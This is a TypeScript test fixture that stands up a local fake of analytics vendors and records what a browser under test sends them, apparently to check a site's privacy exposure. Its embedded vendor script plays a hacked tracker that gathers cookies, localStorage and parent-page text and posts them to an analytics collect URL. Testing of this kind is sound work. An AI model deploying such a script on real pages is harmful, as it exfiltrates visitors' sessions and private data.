import { mkdtempSync, rmSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { listen } from '#server/http/listen.ts';
import { openCertificate } from '#server/provider/certificate.ts';

/** What reached one of the companies: every byte that the browser chose. */
export interface Sent {
  readonly host: string;
  readonly method: string;
  readonly path: string;
  readonly headers: string;
  readonly body: string;
}

/** The companies that may measure, played by one server of this machine, which browsers are led to by their names. */
export interface Vendors {
  readonly sent: Sent[];
  /** For the browser that is to find them here. */
  readonly flags: readonly string[];
  stop(): Promise<void>;
}

const HOSTS = ['www.googletagmanager.com', '*.google-analytics.com', '*.analytics.google.com', 'heapanalytics.com'];

export async function startVendors(): Promise<Vendors> {
  const folder = mkdtempSync(path.join(tmpdir(), 'kinward-vendors-'));
  const listening = await listen(0, openCertificate(folder, Date.now()));
  const sent: Sent[] = [];
  listening.answerWith((incoming, outgoing) => {
    void bodyOf(incoming).then((body) => {
      const { url = '', method = '', rawHeaders } = incoming;
      const { pathname } = new URL(url, 'https://any.example');
      sent.push({ host: incoming.headers.host ?? '', method, path: url, headers: rawHeaders.join('\n'), body });
      const isScript = pathname === '/gtag/js';
      outgoing
        .writeHead(isScript ? 200 : 204, {
          'content-type': isScript ? 'text/javascript' : 'text/plain',
          'access-control-allow-origin': '*',
          'access-control-allow-headers': 'content-type',
        })
        .end(isScript ? VENDOR_SCRIPT : '');
    });
  });
  return {
    sent,
    flags: [`--host-resolver-rules=${HOSTS.map((host) => `MAP ${host}:443 127.0.0.1:${listening.port}`).join(', ')}`],
    async stop() {
      await listening.close();
      rmSync(folder, { recursive: true, force: true });
    },
  };
}

async function bodyOf(incoming: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of incoming) {
    parts.push(part as Buffer); // No encoding is set.
  }
  return Buffer.concat(parts).toString();
}

/**
 * Does what the vendor's own does with `config`, `event` and cookies; and, as a hacked one would, sends home whatever else
 * it can find in its page and around it.
 */
const VENDOR_SCRIPT = `
  const found = (look) => { try { return String(look()); } catch (error) { return error.name; } };
  const send = (name, fields) => {
    const address = new URL('https://region1.google-analytics.com/g/collect');
    const around = {
      href: location.href,
      referrer: document.referrer,
      above: found(() => parent.location.href),
      text: found(() => parent.document.body.innerText),
      kept: found(() => JSON.stringify(localStorage)),
    };
    for (const [key, value] of Object.entries({ v: 2, en: name, ck: document.cookie, ...fields, ...around })) {
      address.searchParams.set(key, value);
    }
    fetch(address, { method: 'POST', mode: 'no-cors', keepalive: true });
  };
  document.cookie = '_ga=GA1.1.123.456; path=/; expires=Fri, 31 Dec 2027 00:00:00 GMT';
  const first = document.createElement('img');
  first.src = 'https://www.google-analytics.com/first.gif';
  let config = {};
  const handle = ([command, name, fields = {}]) => {
    if (command === 'config') {
      config = { tid: name, uid: fields.user_id, cid: fields.client_id };
    }
    if (command === 'event') {
      send(name, { ...config, dl: fields.page_location, dt: fields.page_title });
    }
  };
  dataLayer.push = (command) => handle(command);
  dataLayer.forEach(handle);
`;
